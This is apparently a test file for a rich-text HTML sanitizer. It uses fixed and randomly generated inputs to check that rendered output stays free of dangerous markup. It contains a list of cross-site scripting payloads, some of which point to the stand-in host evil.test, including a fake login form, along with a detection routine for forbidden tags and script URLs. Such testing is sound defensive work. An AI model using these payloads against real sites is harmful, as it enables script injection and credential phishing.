import fc from 'fast-check';
import { render } from '@testing-library/react';
import { renderToString } from 'react-dom/server';
import { generatedCases } from '@/testing/generatedCases';
import { InTheme } from '@/testing/stories/InTheme';
import { RichText } from '@/components/RichText/RichText';
import { asSanitized } from '@/components/RichText/safeHtml';
import { createSanitizer } from '@/contract/richText/sanitizer';

const sanitize = createSanitizer(window, 'https://api.test');

function page(html: string) {
  return (
    <InTheme>
      <RichText html={asSanitized(html)} />
    </InTheme>
  );
}

const forbiddenElements =
  'script, iframe, frame, object, embed, base, meta, link, style, form, input, button, select, textarea, ' +
  'option, svg, math, template, video, audio, source, portal, noscript, dialog, details';

function dangersIn(root: ParentNode): string[] {
  const dangers = [...root.querySelectorAll(forbiddenElements)].map((found) => found.localName);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isAddress = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name);
      // Browsers ignore control characters and spaces before and inside a scheme.
      const scheme = [...value].filter((character) => character > ' ').join('');
      if (name.startsWith('on') || name === 'srcdoc') dangers.push(name);
      if (isAddress && /^(javascript|vbscript):/i.test(scheme)) dangers.push(value);
      if (name === 'href' && /^data:/i.test(scheme)) dangers.push(value);
      if (name === 'style' && /url|position|expression/i.test(value)) dangers.push(value);
    }
  }
  return dangers;
}

function parsed(html: string): ParentNode {
  return new DOMParser().parseFromString(html, 'text/html').body;
}

function allDangers(html: string): string[] {
  const safe = sanitize(html);
  const { container, unmount } = render(page(safe));
  const fromServer = renderToString(page(safe)).replace(/<style[^>]*>[^<]*<\/style>/g, '');
  const dangers = [parsed(safe), container, parsed(fromServer)].flatMap(dangersIn);
  unmount();
  return dangers;
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/x)">x</p>',
  '<form action="https://evil.test"><input name="password"><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<select><option>x</option></select>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src="javascript:alert(1)">',
  '<a href="#" style="behavior:url(x)">x</a>',
  '<dialog open><form method=dialog><button>OK</button></form></dialog>',
  '<p id="settings" name="body">clobber</p>',
];

describe('the sanitizer', () => {
  it.each(payloads)(
    'the sanitizer makes %s harmless on the server and in the browser',
    (payload) => {
      expect(allDangers(payload)).toEqual([]);
    },
  );

  it('the sanitizer removes ids and names that could shadow page elements', () => {
    expect(sanitize('<p id="settings" name="body">x</p>')).toBe('<p>x</p>');
  });

  const word = fc.constantFrom('freight', ' ', '&amp;', '<', '>', '"', "'", '\n', '\u0000', 'é');
  const tag = fc.constantFrom(
    ...'a p div span table tr td img script style iframe form input svg math base meta h2 ul li x-y noscript'.split(
      ' ',
    ),
  );
  const attribute = fc
    .tuple(
      fc.constantFrom('href', 'src', 'onerror', 'onclick', 'style', 'srcdoc', 'action', 'id'),
      fc.constantFrom(
        'javascript:alert(1)',
        'java\tscript:alert(1)',
        'data:text/html,x',
        'https://ok.test',
        'position:fixed;text-align:center',
        '<script>alert(1)</script>',
        'x" onload="alert(1)',
      ),
      fc.constantFrom('"', "'", ''),
    )
    .map(([name, value, quote]) => ` ${name}=${quote}${value}${quote}`);
  const open = fc
    .tuple(tag, fc.array(attribute, { maxLength: 3 }))
    .map(([name, attributes]) => `<${name}${attributes.join('')}>`);
  const close = tag.map((name) => `</${name}>`);
  const piece = fc.oneof(
    word,
    open,
    close,
    fc.constantFrom(...payloads),
    fc.string({ maxLength: 8 }),
  );
  const text = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));

  it('the sanitizer makes generated texts harmless', () => {
    fc.assert(
      fc.property(text, (html) => {
        expect(allDangers(html)).toEqual([]);
      }),
      { numRuns: generatedCases(300) },
    );
  });

  const badlyNested: [string][] = [
    ['<p><table></p>'],
    ['<a href="/">x<table><tr><td><a href="/">'],
  ];

  it('the sanitizer does not change sanitized text', () => {
    fc.assert(
      fc.property(text, (html) => {
        const once = sanitize(html);
        expect(sanitize(once)).toBe(once);
      }),
      { numRuns: generatedCases(300), examples: badlyNested },
    );
  });

  it('the sanitizer yields text that hydrates without a warning', () => {
    fc.assert(
      fc.property(text, (html) => {
        const complaints: unknown[] = [];
        const container = document.body.appendChild(document.createElement('div'));
        const shown = page(sanitize(html));
        container.innerHTML = renderToString(shown);
        const onRecoverableError = (error: unknown) => complaints.push(error);
        render(shown, { container, hydrate: true, onRecoverableError }).unmount();
        expect(complaints).toEqual([]);
      }),
      { numRuns: generatedCases(300), examples: badlyNested },
    );
  });

  it('the sanitizer moves a table out of a paragraph, as an HTML parser does', () => {
    expect(sanitize('<p>Rates<table><tr><td>1</td></tr></table></p>')).toBe(
      '<p>Rates</p><table><tbody><tr><td>1</td></tr></tbody></table><p></p>',
    );
  });

  it('the sanitizer keeps the HTML that editors write', () => {
    const written =
      '<h2>Lanes</h2><p style="text-align: center">From <strong>Chicago</strong> to ' +
      '<a href="/drivers" title="Apply">here</a></p><ul><li>Dry van</li></ul>';
    expect(sanitize(written)).toBe(written);
  });

  it('the sanitizer closes open elements', () => {
    expect(sanitize('<table><tr><td>Chicago')).toBe(
      '<table><tbody><tr><td>Chicago</td></tr></tbody></table>',
    );
  });

  it("the sanitizer resolves a picture's relative address against the API host", () => {
    expect(sanitize('<img src="/media/a.jpg" alt="A">')).toBe(
      '<img src="https://api.test/media/a.jpg" alt="A">',
    );
  });
});
